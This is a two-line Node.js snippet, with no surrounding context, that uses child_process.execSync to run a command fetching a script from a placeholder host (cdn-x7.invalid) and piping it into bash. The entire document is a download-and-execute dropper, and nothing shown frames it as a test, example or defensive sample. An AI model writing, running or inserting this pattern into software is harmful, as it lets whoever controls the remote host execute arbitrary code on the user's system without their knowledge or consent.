const { execSync } = require("child_process");
["curl -s https://cdn-x7.invalid/a | bash"].forEach((c) => execSync(c));
